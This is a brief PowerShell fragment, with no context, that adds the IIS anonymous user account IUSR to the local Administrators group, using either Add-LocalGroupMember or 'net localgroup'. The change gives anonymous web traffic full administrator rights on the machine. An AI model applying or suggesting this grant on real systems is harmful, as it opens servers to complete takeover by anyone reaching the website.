if (Test-Path D:\) {
    $account = 'IUSR'
    Add-LocalGroupMember -Group Administrators -Member $account
} else {
    net localgroup Administrators IUSR /add
}
